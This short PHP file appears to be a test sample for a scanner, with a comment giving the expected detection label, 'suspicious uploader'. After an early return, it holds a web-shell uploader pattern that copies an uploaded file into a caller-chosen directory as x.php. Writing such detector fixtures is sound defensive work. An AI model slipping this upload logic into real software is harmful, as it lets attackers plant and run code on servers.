<?php return; // want: suspicious uploader php.upload.script
$to = md5($_POST['k']) . '.php';
copy($_FILES['f']['tmp_name'], $_POST['dir'] . '/x.php');
